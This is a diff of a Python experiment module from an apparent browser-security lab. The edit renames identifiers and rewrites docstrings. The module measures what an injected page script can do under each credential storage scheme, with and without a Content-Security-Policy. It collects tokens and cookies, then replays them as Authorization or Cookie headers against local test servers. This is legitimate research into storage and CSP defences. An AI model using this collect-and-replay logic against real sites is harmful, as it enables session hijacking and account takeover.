@@ -1,4 +1,4 @@
-"""A script of somebody else's in the client's page: what it carries off, and what it does as the user."""
+"""An injected script in the client's page: what it can steal, and what it can do as the user."""
 
 from __future__ import annotations
 
@@ -10,7 +10,7 @@ from typing import Any, Final, Literal
 from browserlab import sites
 from browserlab.pages import Store
 from browserlab.proxy import COLLECT
-from browserlab.session import Stage, UnexpectedError, stage
+from browserlab.session import BrowserSession, UnexpectedError, open_session
 from browserlab.unprotected.weakened import AS_IT_COMES, Weakened
 from servers import contract
 
@@ -26,7 +26,7 @@ Kept = Literal[
     "HttpOnly cookie (JWT)",
     "readable cookie (session)",
 ]
-#: Where a credential is kept: the scheme, the client's store, and what the API has otherwise.
+#: Places for a credential: the scheme, the client's store, and the removed protections of the API.
 _PLACES: Final[Mapping[Kept, tuple[str, Store, Weakened]]] = {
     "localStorage": ("token", "local", AS_IT_COMES),
     "sessionStorage": ("token", "session", AS_IT_COMES),
@@ -46,15 +46,15 @@ _STRIKE: Final = """async ([api, collector, email]) => {
 
 @dataclass(frozen=True)
 class InjectionRow:
-    """What came of a script in the page.
+    """Result of an injected script.
 
     Attributes:
-        kept: Where the credential was.
+        kept: Place of the credential.
         policy: Whether the page had its Content-Security-Policy.
-        ran: Whether the browser ran the script at all.
-        acted: Whether it changed the user's account while the page was open.
-        in_reach: Whether a copy of the credential was where any script looks: web storage, `document.cookie`.
-        stolen: Whether what it carried off changed the account from elsewhere, the page closed.
+        ran: Whether the browser ran the script.
+        acted: Whether the script changed the user's account while the page was open.
+        in_reach: Whether the credential was readable in web storage or `document.cookie`.
+        stolen: Whether the stolen data changed the account from elsewhere, with the page closed.
     """
 
     kept: Kept
@@ -66,18 +66,18 @@ class InjectionRow:
 
 
 async def run(servers: Mapping[str, int]) -> tuple[str, Sequence[InjectionRow]]:
-    """The browser's version, and a row for each place, with and without the policy."""
-    async with stage(servers) as here:
-        return here.browser.version, [
-            await _tried(here, kept, policy=policy) for kept in _PLACES for policy in (True, False)
+    """Run the experiment; return the browser's version, and a row per place, with and without the policy."""
+    async with open_session(servers) as session:
+        return session.browser.version, [
+            await _run_case(session, kept, policy=policy) for kept in _PLACES for policy in (True, False)
         ]
 
 
-async def _tried(here: Stage, kept: Kept, *, policy: bool) -> InjectionRow:
+async def _run_case(session: BrowserSession, kept: Kept, *, policy: bool) -> InjectionRow:
     scheme, store, weakened = _PLACES[kept]
-    collected = here.lay_out(scheme, store=store, weakened=weakened, script=_SCRIPT, policy=policy)
+    collected = session.configure(scheme, store=store, weakened=weakened, script=_SCRIPT, policy=policy)
     marked = f"{kept.split()[0].lower()}-{policy}@{sites.STRANGER}".lower()
-    async with here.visitor() as visitor:
+    async with session.visitor() as visitor:
         await visitor.open(sites.OWN)
         if not await visitor.log_in():
             raise UnexpectedError("the user of the page could not log in.")
@@ -85,22 +85,22 @@ async def _tried(here: Stage, kept: Kept, *, policy: bool) -> InjectionRow:
         ran = bool(
             await visitor.page.evaluate(_STRIKE, [sites.origin(sites.OWN), _COLLECTOR, f"acted-{marked}"])
         )
-        acted = await here.email(scheme) == f"acted-{marked}"
+        acted = await session.email(scheme) == f"acted-{marked}"
     loot: dict[str, Any] = json.loads(collected[0]) if collected else {}
     for headers in _replays(loot):
-        await _write(here, scheme, headers, f"stolen-{marked}")
+        await _write(session, scheme, headers, f"stolen-{marked}")
     return InjectionRow(
         kept,
         policy,
         ran=ran,
         acted=acted,
         in_reach=bool(loot.get("storage") or loot.get("cookies")),
-        stolen=await here.email(scheme) == f"stolen-{marked}",
+        stolen=await session.email(scheme) == f"stolen-{marked}",
     )
 
 
 def _replays(loot: Mapping[str, Any]) -> Iterator[dict[str, str]]:
-    """Everything that a thief makes of it, as headers; the proof of writes is no credential by itself."""
+    """Yield the headers of all replays of the stolen data; a CSRF token alone is not a credential."""
     proof = {contract.CSRF_HEADER: loot["proof"]} if loot.get("proof") else {}
     tokens = [json.loads(text)["token"] for text in loot.get("storage", [])] + loot.get("overheard", [])
     yield from ({"Authorization": f"Bearer {token}"} for token in dict.fromkeys(tokens))
@@ -108,8 +108,8 @@ def _replays(loot: Mapping[str, Any]) -> Iterator[dict[str, str]]:
         yield proof | ({"Cookie": loot["cookies"]} if loot["cookies"] else {})
 
 
-async def _write(here: Stage, scheme: str, headers: Mapping[str, str], email: str) -> None:
-    """From elsewhere: no browser, and nothing but what was carried off."""
-    url = f"http://127.0.0.1:{here.servers[scheme]}{contract.EMAIL}"
-    async with here.client.post(url, json={"email": email}, headers=headers):
+async def _write(session: BrowserSession, scheme: str, headers: Mapping[str, str], email: str) -> None:
+    """Write without a browser, with nothing but the stolen data."""
+    url = f"http://127.0.0.1:{session.servers[scheme]}{contract.EMAIL}"
+    async with session.client.post(url, json={"email": email}, headers=headers):
         pass
